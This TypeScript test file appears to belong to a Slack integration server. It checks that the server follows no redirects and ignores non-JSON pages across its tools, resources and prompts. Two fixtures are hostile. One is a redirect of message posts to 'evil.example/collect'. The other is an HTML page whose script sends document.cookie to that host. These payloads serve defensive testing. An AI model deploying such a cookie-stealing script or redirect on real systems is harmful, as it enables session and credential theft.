import { redirectMatrix, travel } from '@gatehouse/testkit';
import type { Road } from '@gatehouse/testkit';
import type { SlackFake } from '@gatehouse/testkit/slack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectSlack, startFake } from './helpers.ts';
import type { SlackHarness } from './helpers.ts';

// Redirects and answers that are not Slack's JSON, on every road. Slack's Web API answers every
// method with JSON at its own address: no redirect is followed (a post that followed one would
// go, token and text with it, wherever the Location said), and a page that is not JSON (a proxy's
// or a captive portal's HTML, with a <script>) is never read nor quoted. Roads tested: every tool
// (the post included), the channel directory and channel resources, every prompt; redirects 301,
// 302, 303, 307 and 308 to another Slack method and to another host; HTML and text answers with
// 200, 400 and 502.

const THREAD = `${1_764_500_000 + 2 * 600}.000100`;
const ROADS: Road[] = [
  { kind: 'tool', name: 'slack_list_channels', arguments: {} },
  { kind: 'tool', name: 'slack_read_channel', arguments: { channel: '#general' } },
  {
    kind: 'tool',
    name: 'slack_read_thread',
    arguments: { channel: '#general', thread_ts: THREAD },
  },
  {
    kind: 'tool',
    name: 'slack_post_message',
    arguments: { channel: '#incidents', text: 'Deploy done.' },
    write: true,
  },
  { kind: 'resource', uri: 'slack://channels' },
  { kind: 'resource', uri: 'slack://channel/C0GENERAL1' },
  { kind: 'prompt', name: 'slack_summarise', arguments: { channel: '#general' } },
  {
    kind: 'prompt',
    name: 'slack_incident_update',
    arguments: { channel: '#incidents', incident: 'API errors' },
  },
  {
    kind: 'prompt',
    name: 'slack_draft_announcement',
    arguments: { channel: '#incidents', topic: 'The new office' },
  },
];

let fake: SlackFake;
let h: SlackHarness;

beforeAll(async () => {
  fake = await startFake();
  h = await connectSlack(fake, { GATEHOUSE_ENABLE_WRITES: 'true' });
});

afterAll(async () => {
  await h?.close();
  await fake?.close();
});

const state = () => JSON.stringify(fake.world.channels.map((c) => c.messages));

describe('a redirect on every road', () => {
  it('is never followed', async () => {
    const { problems, asked, cells } = await redirectMatrix({
      client: h.client,
      fake,
      roads: ROADS,
      inside: 'chat.postMessage',
      state,
    });
    expect(problems).toEqual([]);
    // The channel directory is cached: some roads ask Slack nothing in some cells.
    expect(asked).toBeGreaterThan(cells / 2);
  }, 120_000);

  it('says so, and names nothing of where it led', async () => {
    fake.fail({
      status: 307,
      redirect: 'https://evil.example/collect',
      match: 'POST /chat.postMessage',
    });
    const post = await travel(h.client, ROADS[3]!);
    fake.clearFailures();
    expect(post.error).toBe(true);
    expect(post.text).toContain(
      'which this server never follows: nothing was sent to the other address',
    );
    expect(post.text).not.toContain('evil');
  });
});

describe('an answer that is not Slack’s JSON', () => {
  const PAGE =
    '<!doctype html><title>Sign in</title><script>fetch("https://evil.example/?"+document.cookie)</script>';

  it.each([200, 400, 502])(
    'with status %i is never read nor quoted, on any road',
    async (status) => {
      for (const road of ROADS) {
        fake.fail({
          status,
          page: { contentType: 'text/html; charset=utf-8', body: PAGE },
          times: 1_000,
        });
        const before = state();
        const answer = await travel(h.client, road);
        fake.clearFailures();
        expect(state()).toBe(before);
        expect(answer.text).not.toMatch(/doctype|<script|Sign in|evil/i);
        if (answer.error && /instead of JSON/.test(answer.text)) {
          expect(answer.text).toContain(`it answered ${status} with text/html instead of JSON`);
        }
      }
    },
  );
});
